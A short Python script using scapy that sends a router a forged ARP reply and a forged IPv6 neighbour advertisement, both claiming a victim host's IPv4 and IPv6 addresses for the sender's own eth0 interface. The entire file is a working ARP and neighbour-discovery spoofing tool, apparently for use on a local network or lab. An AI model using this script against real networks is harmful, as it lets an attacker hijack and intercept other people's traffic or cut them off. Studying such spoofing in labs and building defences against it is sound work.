#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""claim.py ROUTER-MAC ROUTER VICTIM ROUTER6 VICTIM6 - says to the router, by an ARP reply and a
solicited neighbour advertisement from eth0 of another host, that the victim's addresses are here."""
import sys

from scapy.all import ARP, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, Ether, IPv6, get_if_hwaddr, sendp

mac, router, victim, router6, victim6 = sys.argv[1:6]
own = get_if_hwaddr("eth0")
sendp([Ether(dst=mac, src=own) / ARP(op=2, hwsrc=own, psrc=victim, hwdst=mac, pdst=router),
       Ether(dst=mac, src=own) / IPv6(src=victim6, dst=router6, hlim=255)
       / ICMPv6ND_NA(tgt=victim6, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own)],
      iface="eth0", verbose=0)
